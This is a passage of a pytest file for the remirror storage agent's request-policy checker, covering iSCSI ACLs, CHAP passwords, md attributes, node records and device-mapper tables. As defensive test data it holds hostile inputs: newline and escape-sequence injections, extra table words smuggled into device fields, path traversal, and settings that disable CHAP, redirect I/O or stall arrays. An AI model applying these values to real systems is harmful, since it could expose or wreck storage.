            "set_acl", iqn=m0, initiator="iqn.2026-11.org.example:a", lun=0, chap=chap
        ),
        "is not one line": lio(
            "set_acl",
            iqn=m0,
            initiator="iqn.2026-11.org.example:a",
            lun=0,
            chap={**mutual, "password": "a\nb"},
        ),
        "not an initiator the site's profiles let log in": lio(
            "set_acl", iqn=export, initiator="iqn.2026-11.com.example:evil", lun=0
        ),
        "is not a target": lio(
            "create_target", iqn="iqn.2026-11.org.remirror:lab.m0.a", chap=True, parameters={}
        ),
        "serves /dev/b0 or": lio("create_backstore", name="m0-b", dev="/dev/b1"),
        "m1-export serves no device": lio(
            "create_backstore", name="m1-export", dev="/dev/md/m1"
        ),  # no export
    }
    for expected, request in refused.items():
        assert expected in refusal(request, scope), expected


def test_an_acls_chap_passwords_are_the_ones_the_site_keeps_where_it_keeps_them(tmp_path: Path) -> None:
    """A profile's `password_file` the site holds too (its Ansible role writes it from the vault):
    an ACL's password is that one. One the site does not hold (remirror generated it on the
    controller): nothing to compare with, and taken."""
    secret, mutual_secret = tmp_path / "m0.chap", tmp_path / "m0.chap.mutual"
    profile = LAB.replace(
        "portal: 192.0.2.2:3260}]",
        "portal: 192.0.2.2:3260}]\n"
        f"    iscsi: {{chap: {{username: fin, password_file: {secret}, mutual: true}}}}",
    )
    scope = site_scope([("/etc/remirror/lab.yaml", parse_profile(profile))])
    right = {"username": "fin", "password": "p" * 16, "mutual_username": "fin", "mutual_password": "q" * 16}

    def acl(**chap: str) -> dict[str, Any]:
        return run(
            {"kind": "lio_set_acl", "iqn": IQN, "initiator": "iqn.2026-11.org.example:a", "lun": 0,
             "chap": {**right, **chap}}
        )  # fmt: skip

    check_request(acl(password="anything-at-all-1"), scope)  # neither file is here: nothing to compare
    secret.write_text("p" * 16 + "\n")
    mutual_secret.write_text("q" * 16 + "\n")
    check_request(acl(), scope)
    assert f"CHAP password for 'fin' is not the one in {secret} here" in refusal(
        acl(password="x" * 16), scope
    )
    assert f"mutual_password for 'fin' is not the one in {mutual_secret}" in refusal(
        acl(mutual_password="x" * 16), scope
    )
    assert "x" * 16 not in refusal(acl(password="x" * 16), scope)  # a refusal never quotes a password


def test_md_attributes_take_only_the_values_the_planner_writes() -> None:
    # Writes resumed after a move cut short, a check stopped (remirror.plan.md's repairs): taken.
    for attribute, value in (
        ("suspend_hi", "0"),
        ("sync_action", "idle"),
        ("sync_max", "max"),
        ("bitmap/backlog", "16383"),
        ("safe_mode_delay", "10"),
        ("sync_speed_max", "10240"),
        ("sync_speed_min", "system"),  # a schedule's `unlimited`: md's system-wide limit
    ):
        check_request(
            run({"kind": "md_attribute", "md": "/dev/md127", "attribute": attribute, "value": value}), None
        )
    for attribute, value in (
        ("suspend_hi", "2097152"),  # every write below it waits: the array stops
        ("sync_action", "repair"),
        ("sync_max", "0"),  # resyncs held at sector 0
        ("bitmap/backlog", "16384"),
        ("safe_mode_delay", "0"),  # never clean: every assembly after a crash a bitmap resync
        *(("safe_mode_delay", value) for value in ("10\n", " 10", "1", "100", "10.0", "0.2", "99999")),
        ("sync_speed_max", "../x"),
        ("sync_speed_max", "system 1"),
    ):
        request = run({"kind": "md_attribute", "md": "/dev/md127", "attribute": attribute, "value": value})
        assert f"md_attribute {attribute}: " in refusal(request, None)


def test_a_node_record_takes_only_the_settings_the_sites_profiles_make_for_that_target() -> None:
    def update(*pairs: tuple[str, str]) -> dict[str, Any]:
        step = {"kind": "iscsi_node_update", "target": IQN, "address": "192.0.2.2", "port": 3260}
        return run({**step, "settings": dict(pairs)})

    # As remirror.plan.initiator makes them from the profile (lan timeouts, on_link_loss degrade).
    check_request(
        update(
            ("node.startup", "manual"),
            ("node.session.timeo.replacement_timeout", "5"),
            ("node.conn[0].timeo.noop_out_interval", "5"),
            ("node.session.auth.authmethod", "CHAP"),
        ),
        SCOPE,
    )
    for key, value in (
        ("node.conn[0].address", "203.0.113.9"),  # the leg's I/O to another machine's target
        ("node.session.auth.authmethod", "None"),  # CHAP off
        ("node.session.timeo.replacement_timeout", "86400"),  # I/O held a day: the array hangs
        ("node.session.queue_depth", "1"),
    ):
        assert f"{key}={value}: not a setting this site's profiles (/etc/remirror/lab.yaml) make" in refusal(
            update(("node.startup", "manual"), (key, value))
        )


def test_a_sessions_live_replacement_time_out_is_only_the_one_the_profiles_give_its_target(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from remirror.agent import policy_steps

    monkeypatch.setattr(policy_steps, "session_target", lambda session: IQN if session == "session3" else "")

    def write(seconds: int, session: int = 3) -> dict[str, Any]:
        return run({"kind": "session_timeout", "session": session, "target": IQN, "seconds": seconds})

    check_request(write(5), SCOPE)  # on_link_loss: degrade
    assert "86400 s is not iqn.2026-11.org.remirror:lab.m0.b's replacement time-out here" in refusal(
        write(86400)
    )
    assert "session 9 is not logged in to" in refusal(write(5, 9))  # no such session, or another's


# --- the initiators the profile names (`sites.NAME.initiator`, issue 44) -------------------------

NAMED = LAB.replace(
    "a: {host: ssh://root@a}", 'a: {host: ssh://root@a, initiator: "iqn.2026-11.org.example:a"}'
)


def test_a_named_initiator_is_the_only_one_a_replica_target_takes_an_acl_for() -> None:
    scope = site_scope([("/etc/remirror/lab.yaml", parse_profile(NAMED))])
    chap = {
        "username": "remirror-lab-m0",
        "password": "x" * 16,
        "mutual_username": "remirror-lab-m0",
        "mutual_password": "y" * 16,
    }

    def acl(initiator: str) -> dict[str, Any]:
        return run({"kind": "lio_set_acl", "iqn": IQN, "initiator": initiator, "lun": 0, "chap": chap})

    check_request(acl("iqn.2026-11.org.example:a"), scope)
    assert "not an initiator the site's profiles let log in" in refusal(
        acl("iqn.2026-11.org.example:x"), scope
    )
    # Not named: any one initiator name (the primary's, whatever it is), as before.
    check_request(acl("iqn.2026-11.org.example:x"), SCOPE)


def test_the_reviews_second_round_of_attacks_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A site with no profile: the devices inside a leg's own points are no request's; their
    # volume (the leg itself) is.
    assert "own points' devices" in refusal(
        run({"kind": "zero_head", "device": "/dev/mapper/remirror-m0.b-cdp-tmeta"}), None
    )
    check_request(run({"kind": "zero_head", "device": "/dev/mapper/remirror-m0.b-cdp"}), None)
    # An IPv6 zone carries any text into a log line and a node record's name.
    zone = {"kind": "iscsi_node", "target": IQN, "address": "fe80::1%\x1b[2J", "port": 3260, "op": "login"}
    assert "is not an IP address or host name" in refusal(run(zone))
    # The kernel reads a backslash in a table as an escape that joins two words.
    # The kernel reads a backslash in a table as an escape that joins two words: the text the
    # site writes is checked for it too (no typed field should carry one there).
    from remirror.agent.policy_tables import table as table_text

    with pytest.raises(Refused, match="printable ASCII"):
        table_text(policy.Checker(SCOPE), "0 8 linear /dev/b0\\ 0")
    assert "is not a device" in refusal(
        run({"kind": "dm_create", "name": "remirror-m0-b", "table": table("/dev/b0\\")})
    )
    # The cache-head dd creates no file where no device is.
    assert "conv=nocreat" in decode(run({"kind": "zero_head", "device": "/dev/b0"})["steps"][0]).argv()  # type: ignore[attr-defined]
    # A line nested past Python's stack is refused and logged, not a crash of the agent.
    from remirror.agent import serve

    logged: list[str] = []
    monkeypatch.setattr(serve, "_refuse", logged.append)
    monkeypatch.setattr(policy, "PROFILE_DIR", tmp_path)
    answer = serve._Gate(checked=True).not_json(RecursionError("maximum recursion depth exceeded"))
    assert answer == {"error": "the request is not JSON: RecursionError"}
    assert logged == ["refused: the request is not JSON: RecursionError"]


def test_a_node_record_names_its_own_targets_portal_never_anothers() -> None:
    scope = site_scope([("/etc/remirror/lab.yaml", parse_profile(LIO_LAB))])
    m0 = {"kind": "iscsi_node", "target": IQN, "address": "192.0.2.2", "op": "new"}
    check_request(run({**m0, "port": 3260}), scope)
    assert (
        f"portal 192.0.2.2:3262 is not one this site's profiles (/etc/remirror/lab.yaml) name for {IQN}"
        in (
            refusal(run({**m0, "port": 3262}), scope)  # m1's: a record of m0's target at m1's portal
        )
    )


def test_a_tables_device_is_one_word_and_its_numbers_those_of_its_target(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def reload(**fields: Any) -> dict[str, Any]:
        return run({"kind": "dm_reload", "name": "remirror-m0-b", "table": fields})

    # A device that carries more words (another target, an option) is refused as a device, with no
    # profile too, where any block device is in scope.
    for device in (
        "/dev/b0 0\n0 8 linear /dev/sda",
        "/dev/b0 4096 2 start_sector 9",
        "/dev/b0\t0",
        "/dev/b0\\",
    ):
        for scope in (SCOPE, None):
            assert "is not a device path or MAJOR:MINOR" in refusal(
                reload(target="linear", sectors=8, devices=[device]), scope
            )
    # Numbers where the target takes them, in the kernel's range.
    writecache = {"target": "writecache", "sectors": 8, "devices": ["/dev/b0", "/dev/b0"]}
    check_request(reload(**writecache, block=4096), SCOPE)  # no option: the count is 0
    for wrong in (
        {"block": 0},
        {"block": 3000},
        {"block": 4096, "offset": 8},
        {"block": 4096, "policy": "cleaner"},
    ):
        assert "not one remirror sends" in refusal(reload(**writecache, **wrong))
    cache = {"target": "cache", "sectors": 8, "devices": ["/dev/b0", "/dev/b0", "/dev/b0"]}
    check_request(reload(**cache, block=64 << 10, policy="cleaner"), SCOPE)
    assert "not one remirror sends" in refusal(reload(**cache, block=4096))
    # With no profile, a MAJ:MIN of a device inside a leg's own points is refused as its path is.
    monkeypatch.setattr(
        policy, "dm_names_of", lambda path: ["remirror-m0.b-cdp-tdata"] if path == "/dev/devno-253:5" else []
    )
    assert "own points' devices" in refusal(reload(target="linear", sectors=8, devices=["253:5"]), None)


def test_the_text_the_site_writes_is_checked_word_by_word_whatever_the_fields_let_through() -> None:
    # The second wall, behind the typed fields: what reaches dmsetup is checked as the kernel reads it.
    from remirror.agent.policy_tables import table as table_text

    check = policy.Checker(None)
    for text, why in (
        ("0 8 linear 8:16\udca00", "printable ASCII"),  # 0xA0 splits a word for the kernel
        ("0 8\tlinear /dev/b0 0", "printable ASCII"),
        ("0 8 linear /dev/b0 0 #", "'#' is not an argument of linear"),
        ("0 8 crypt aes x 0 /dev/b0 0", "not a target remirror sends"),
        ("0 8 linear /dev/b0\\ 0", "printable ASCII"),
        ("0 8 linear ../dev/sda 0", "is not a device path"),
    ):
        with pytest.raises(Refused, match=re.escape(why)):
            table_text(check, text)


ONE_FOR_BOTH = LAB.replace("b: {host: local}", "b: {host: ssh://root@b}")


def test_the_agent_finds_its_site_by_its_site_file_never_by_a_variable_its_session_carries(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # One profile for both sites: at site B, its scope is site B's part of it.
    assert ONE_FOR_BOTH != LAB
    (tmp_path / "lab.yaml").write_text(ONE_FOR_BOTH)
    (tmp_path / "site").write_text("b\n")
    monkeypatch.setenv("REMIRROR_SITE", "a")  # what a session could carry: not read
    scope = policy.load_scope(tmp_path)
    assert scope is not None
    assert scope.sites == frozenset({"b"})
    assert "/dev/b0" in scope.disks
    assert "/dev/a0" not in scope.disks


@pytest.mark.parametrize(
    ("site_file", "refusal"),
    [
        (None, "is none of its sites"),  # this machine's host name is neither site's
        ("c\n", "names 'c', which is not one of its sites"),
        ("a b\n", "holds 2 words"),
    ],
)
def test_an_agent_that_cannot_tell_which_site_it_is_refuses_everything(
    tmp_path: Path, site_file: str | None, refusal: str
) -> None:
    (tmp_path / "lab.yaml").write_text(ONE_FOR_BOTH)
    if site_file is not None:
        (tmp_path / "site").write_text(site_file)
    with pytest.raises(Refused, match=refusal):
        policy.load_scope(tmp_path)


def test_an_agent_that_lives_on_reads_its_site_again_when_its_site_file_changes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from remirror.agent.serve import _Gate

    monkeypatch.setattr(policy, "PROFILE_DIR", tmp_path)
    (tmp_path / "lab.yaml").write_text(ONE_FOR_BOTH)
    (tmp_path / "site").write_text("b\n")
    gate = _Gate(checked=True)
    assert gate.refusal({"op": "observe", "disks": ["/dev/b0"]}) is None
    (tmp_path / "site").write_text("a\n")  # the operator corrects it: read again
    assert "is not a device this site's profiles" in refusal_of(gate, {"op": "observe", "disks": ["/dev/b0"]})
    assert gate.refusal({"op": "observe", "disks": ["/dev/a0"]}) is None
